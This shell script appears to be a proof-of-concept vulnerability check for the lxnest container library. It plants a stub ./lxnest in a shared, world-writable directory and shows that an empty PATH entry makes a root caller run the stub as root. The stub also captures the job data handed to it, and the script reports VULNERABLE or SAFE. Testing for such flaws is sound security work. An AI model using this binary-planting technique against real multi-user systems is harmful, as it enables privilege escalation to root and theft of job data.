#!/bin/sh
# A multi-threaded library caller (here Python, as root) execs `lxnest __monitor` found by
# `launch::helper::binary()`. An empty or relative PATH entry (trailing ':' here) makes it
# resolve `lxnest` against the working directory, so a root caller whose cwd is writable by
# another user runs that user's ./lxnest as root, and hands it the job on fd 4.
# Needs root and the Python binding (PY, default /tmp/threads-venv/bin/python).
# Prints VULNERABLE or SAFE.
set -u
PY=${PY:-/tmp/threads-venv/bin/python}
D=$(mktemp -d /tmp/att2-f2-XXXX); chmod 1777 "$D"
mkdir "$D/st"; chmod 755 "$D/st"
# "Another user" plants ./lxnest in the shared directory.
cat > "$D/lxnest" <<S
#!/bin/sh
id -u > "$D/ran-as"; cat <&4 > "$D/job.json" 2>/dev/null; echo "ok 0" >&3
S
chmod 755 "$D/lxnest"
cat > "$D/spec.yaml" <<Y
containers:
  - name: att2f2$$
    network: {mode: loopback}
    command: ["/bin/sleep", "30"]
Y
cd "$D"
env -u LXNEST_BINARY PATH="/usr/sbin:/usr/bin:/sbin:/bin:" "$PY" -c '
import lxnest, threading, sys
ev = threading.Event(); t = threading.Thread(target=ev.wait); t.start()
try:
    lxnest.start(sys.argv[1] + "/spec.yaml", path=sys.argv[1] + "/st")
except Exception as e:
    print("start:", e)
finally:
    ev.set(); t.join()
' "$D" >/dev/null 2>&1
if [ -f "$D/ran-as" ]; then
  echo "planted ./lxnest ran as uid $(cat "$D/ran-as"), job $(wc -c < "$D/job.json") bytes"
  r=VULNERABLE
else
  r=SAFE
fi
cd /; rm -rf "$D"
echo $r
